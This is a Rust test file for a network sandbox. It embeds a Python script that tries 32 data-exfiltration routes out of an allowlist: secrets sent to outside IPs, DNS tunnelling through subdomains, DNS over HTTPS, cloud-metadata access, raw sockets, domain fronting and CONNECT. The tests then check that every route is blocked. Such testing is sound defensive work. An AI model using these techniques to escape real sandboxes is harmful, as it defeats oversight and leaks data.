//! A hostile program in an allowlist tries to get one byte out. What arrives in the world is counted by its kernel.

#![expect(clippy::print_stdout, reason = "the table is a result of these tests")]

use agentkernel_tests::internet::{HOST, NAME_SERVER, ROUTER, serve_here};

use crate::Place;

/// Each attempt prints its name and whether anything came back.
const ATTEMPTS: &str = r#"
import os, random, socket, struct, sys
host, router, service = sys.argv[1:4]

def tcp(address, port, data=b"secret", family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(2)
    s.connect((address, port)); s.sendall(data); return s.recv(10)

def udp(address, port, data=b"secret", family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(0.5)
    s.sendto(data, (address, port)); return s.recv(10)

def raw(family, kind, protocol):
    return lambda: socket.socket(family, kind, protocol) and b"a socket"

def question(name):
    return struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\1\0\1"

def ping(address, family, protocol, kind):
    s = socket.socket(family, socket.SOCK_DGRAM, protocol); s.settimeout(0.5)
    s.sendto(struct.pack(">BBHHH", kind, 0, 0, 1, 1) + b"secret", (address, 0)); return s.recv(10)

def fragments():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)
    s.setsockopt(socket.IPPROTO_IP, 10, 0)
    s.sendto(b"s" * 65000, ("198.41.0.4", 9999)); return s.recv(10)

def tunnel():
    answers = 0
    for number in range(50):
        secret = "".join(random.choice("abcdef0123456789") for _ in range(60))
        try:
            socket.getaddrinfo(f"{secret}.other.test", 80); answers += 1
        except socket.gaierror: pass
    return b"x" * answers

def fronting(first):
    def attempt():
        s = socket.create_connection(("example.org", 443), timeout=2); s.sendall(first); return s.recv(10)
    return attempt

def mapped(address):
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(2)
    s.connect((f"::ffff:{address}", 80)); s.sendall(b"GET / HTTP/1.0\r\n\r\n"); return s.recv(10)

ATTEMPTS = {
    "an address of the internet": lambda: tcp("198.41.0.4", 80, b"GET / HTTP/1.0\r\n\r\n"),
    "the same, IPv6": lambda: tcp("2606:2800:21f:cb07::8", 80, family=socket.AF_INET6),
    "an address of the list's name, never looked up": lambda: tcp("93.184.215.14", 80, b"GET / HTTP/1.0\r\n\r\n"),
    "an IPv4 address in IPv6": lambda: mapped("198.41.0.4"),
    "another resolver": lambda: udp("198.41.0.4", 53, question("secret.other.test")),
    "the host's own resolver": lambda: udp(router, 53, question("secret.other.test")),
    "another resolver by TCP": lambda: tcp("198.41.0.4", 53),
    "DNS over TLS": lambda: tcp("198.41.0.4", 853),
    "DNS over HTTPS": lambda: tcp("1.1.1.1", 443),
    "DNS over HTTPS, IPv6": lambda: tcp("2606:4700:4700::1111", 443, family=socket.AF_INET6),
    "a tunnel in names": tunnel,
    "QUIC": lambda: udp("198.41.0.4", 443),
    "the time protocol": lambda: udp("198.41.0.4", 123),
    "multicast": lambda: udp("224.0.0.251", 5353),
    "broadcast": lambda: udp("255.255.255.255", 9999),
    "fragments": fragments,
    "echo requests": lambda: ping("198.41.0.4", socket.AF_INET, socket.IPPROTO_ICMP, 8),
    "echo requests, IPv6": lambda: ping("2606:2800:21f:cb07::8", socket.AF_INET6, socket.IPPROTO_ICMPV6, 128),
    "a raw IP socket": raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
    "a raw ICMP socket": raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "a packet socket": raw(17, socket.SOCK_RAW, 0x300),
    "an SCTP socket": raw(socket.AF_INET, socket.SOCK_STREAM, 132),
    "the host's address": lambda: tcp(host, int(service), b"GET / HTTP/1.0\r\n\r\n"),
    "the router": lambda: tcp(router, 80, b"GET / HTTP/1.0\r\n\r\n"),
    "the host's loopback through the gateway": lambda: tcp("192.0.0.1", int(service), b"GET / HTTP/1.0\r\n\r\n"),
    "a neighbour of the link": lambda: tcp("192.0.0.3", 80),
    "cloud metadata": lambda: tcp("169.254.169.254", 80, b"GET / HTTP/1.0\r\n\r\n"),
    "cloud metadata, IPv6": lambda: tcp("fd00:ec2::254", 80, family=socket.AF_INET6),
    "link-local": lambda: tcp("fe80::1%eth0", 80, family=socket.AF_INET6),
    "no greeting on a port of TLS": fronting(b"secret in the open\n"),
    "another host in plain HTTP": fronting(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n"),
    "a CONNECT": fronting(b"CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n"),
}
for name, attempt in ATTEMPTS.items():
    try:
        came = attempt()
    except (OSError, socket.timeout):
        came = b""
    print(f"{name}: {'LEAKED' if came else 'nothing'}", flush=True)
"#;

fn attempt(place: &Place, network: &[&str]) -> Vec<(String, bool)> {
    let service = serve_here("127.0.0.1:0").port().to_string();
    let command = ["python3", "-c", ATTEMPTS, HOST, ROUTER, &service];
    let outcome = place.run(network, &command).success();
    let lines = outcome.text();
    let attempts: Vec<(String, bool)> = lines
        .lines()
        .filter_map(|line| line.rsplit_once(": "))
        .map(|(name, what)| (name.to_owned(), what == "LEAKED"))
        .collect();
    assert_eq!(attempts.len(), 32, "{lines}{}", outcome.errors());
    attempts
}

#[test]
fn nothing_leaves_an_allowlist_but_what_it_lists() {
    let Some(place) = Place::new() else { return };
    let before = place.internet.packets();
    // The name is never looked up upstream by these attempts, but by the ones that connect to it: it may cost packets.
    let attempts = attempt(&place, &["--allow", "preset:npm"]);
    let packets = place.internet.packets() - before;
    println!(
        "attempts in an allowlist without the name that they use: {}",
        attempts.len()
    );
    for (name, leaked) in &attempts {
        println!("{name:50} {}", if *leaked { "LEAKED" } else { "nothing" });
    }
    let leaks: Vec<&String> = attempts
        .iter()
        .filter(|(_, leaked)| *leaked)
        .map(|(name, _)| name)
        .collect();
    assert!(leaks.is_empty(), "{leaks:?}");
    assert_eq!(
        packets, 0,
        "packets of the sandbox have reached the world ({NAME_SERVER})"
    );
}

#[test]
fn a_listed_name_is_no_door_to_others() {
    let Some(place) = Place::new() else { return };
    let attempts = attempt(&place, &["--allow", "example.org"]);
    let leaks: Vec<&String> = attempts
        .iter()
        .filter(|(_, leaked)| *leaked)
        .map(|(name, _)| name)
        .collect();
    assert!(leaks.is_empty(), "{leaks:?}");
}

/// Where everything is open the same attempts must get out, or they would prove nothing.
#[test]
fn the_attempts_work_where_nothing_is_in_their_way() {
    let Some(place) = Place::new() else { return };
    let before = place.internet.packets();
    let attempts = attempt(&place, &["--network", "open"]);
    let out = attempts.iter().filter(|(_, leaked)| *leaked).count();
    assert!(out >= 14, "{attempts:?}");
    assert!(place.internet.packets() > before + 50);
}
